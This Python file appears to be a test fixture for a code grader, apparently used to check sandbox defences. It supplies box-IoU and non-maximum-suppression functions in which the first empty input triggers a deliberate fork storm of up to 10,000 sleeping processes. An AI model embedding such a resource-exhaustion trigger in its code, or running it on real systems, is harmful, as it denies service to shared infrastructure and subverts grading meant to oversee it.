"""Attack class: Availability -- fork storms.

`box_iou` and `nms` are honest, except that the first time `box_iou` sees an empty input it
forks as many children as the system lets it (each becomes `/bin/sleep 987.6543`, a marker
the test looks for), then raises with how many it started and why it stopped. A fair grader
caps the number of processes from outside (the kernel refuses the fork: EAGAIN), keeps
grading in the crowded worker, and kills every child when grading ends:
`box_iou_edge_cases` fails with the report, every other check passes (88 of 100 points,
not passed: a gate failed), and no `sleep 987.6543` survives.
"""

import os

import torch

MARKER = "987.6543"
STATE = {"stormed": False}


def _storm():
    started = 0
    reason = "limit of 10000 reached"
    while started < 10_000:
        try:
            pid = os.fork()
        except OSError as exc:
            reason = os.strerror(exc.errno) if exc.errno else type(exc).__name__
            break
        if pid == 0:
            try:
                os.execv("/bin/sleep", ["/bin/sleep", MARKER])
            finally:
                os._exit(127)
        started += 1
    return started, reason


def box_iou(boxes1, boxes2):
    if boxes1.shape[0] == 0 and not STATE["stormed"]:
        STATE["stormed"] = True
        started, reason = _storm()
        raise BlockingIOError(f"fork storm: started {started} processes, then: {reason}")
    top_left = torch.maximum(boxes1[:, None, :2], boxes2[None, :, :2])
    bottom_right = torch.minimum(boxes1[:, None, 2:], boxes2[None, :, 2:])
    inter = (bottom_right - top_left).clamp(min=0).prod(dim=2)
    area1 = (boxes1[:, 2] - boxes1[:, 0]) * (boxes1[:, 3] - boxes1[:, 1])
    area2 = (boxes2[:, 2] - boxes2[:, 0]) * (boxes2[:, 3] - boxes2[:, 1])
    union = area1[:, None] + area2[None, :] - inter
    return inter / torch.where(union > 0, union, torch.ones_like(union))


def nms(boxes, scores, iou_threshold):
    order = torch.sort(scores, descending=True, stable=True).indices
    keep = []
    while order.numel() > 0:
        best = order[0]
        keep.append(best)
        rest = order[1:]
        order = rest[box_iou(boxes[best].unsqueeze(0), boxes[rest])[0] <= iou_threshold]
    if not keep:
        return torch.empty(0, dtype=torch.int64, device=boxes.device)
    return torch.stack(keep).to(torch.int64)
